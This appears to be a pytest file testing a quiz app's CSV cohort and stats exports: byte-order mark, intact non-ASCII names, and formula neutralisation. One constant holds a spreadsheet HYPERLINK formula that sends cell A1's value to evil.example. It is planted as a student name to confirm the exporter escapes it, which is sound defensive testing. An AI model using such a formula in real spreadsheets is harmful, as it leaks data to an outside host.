"""CSV exports: BOM, non-ASCII intact, formulas neutralised; the CLI prints the same bytes."""

from __future__ import annotations

import csv
import io

from camp.reports.export import neutralise, to_csv
from tests.reports.conftest import add_students, later, take

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def rows_of(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 byte-order mark
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_formula_cells_are_neutralised_and_numbers_kept():
    assert neutralise(EVIL) == "'" + EVIL
    for risky in ("+1", "-1+2", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(risky) == "'" + risky
    assert neutralise(-0.25) == -0.25 and neutralise(3) == 3
    assert neutralise(None) == "" and neutralise(True) == "yes"
    assert rows_of(to_csv(["a"], [["Zoë 张伟"]])) == [["a"], ["Zoë 张伟"]]


def test_cohort_csv_keeps_names_and_neutralises_formulas(client, login, make, course):
    zoe, _evil = add_students(make, course, ["Zoë Ångström 张伟", EVIL])
    take(zoe, course.quizzes[0], set(course.questions), later(1))
    login(course.organiser)
    response = client.get(f"/organiser/cohorts/{course.cohort.id}/report?format=csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = rows_of(response.data)
    header, *body = rows
    assert header[:4] == ["Student", "Email", "Status", "Quizzes passed"]
    # Modules by their titles, as on the page (not by their addresses).
    assert "Trademarks: best %" in header and "trademarks: best_percent" not in header
    by_name = {row[0]: row for row in body}
    assert "Zoë Ångström 张伟" in by_name
    assert "'" + EVIL in by_name  # text, not a formula
    zoe_row = by_name["Zoë Ångström 张伟"]
    assert zoe_row[header.index("Trademarks: best %")] == "100.0"
    assert zoe_row[header.index("Patents: best %")] == ""
    assert zoe_row[header.index("Quizzes tried")] == "1"


def test_cli_prints_the_same_csv(client, login, make, course, runner):
    (zoe,) = add_students(make, course, ["Zoë"])
    take(zoe, course.quizzes[0], {"tr-1"}, later(1))
    login(course.organiser)
    page = client.get(f"/organiser/cohorts/{course.cohort.id}/report?format=csv").data
    result = runner.invoke(args=["report", "cohort", "Cohort Ä", "--csv"])
    assert result.exit_code == 0, result.output
    assert result.stdout_bytes == page
    summary = runner.invoke(args=["report", "cohort", "Cohort  Ä"])
    assert "Cohort Ä: 1 students, 2 quizzes" in summary.output
    missing = runner.invoke(args=["report", "cohort", "Nope", "--csv"])
    assert missing.exit_code == 1 and "no cohort called" in missing.output


def test_stats_csv_is_long_form(client, login, course, make):
    (zoe,) = add_students(make, course, ["Zoë"])
    take(zoe, course.quizzes[0], {"tr-1"}, later(1))
    login(course.organiser)
    data = client.get(f"/organiser/quizzes/{course.quizzes[0].id}/stats?format=csv").data
    header, *body = rows_of(data)
    assert header[:3] == ["question", "versions", "title"]
    assert len(body) == 9  # three questions x three options
    assert body[0][:2] == ["tr-1", "v1"]
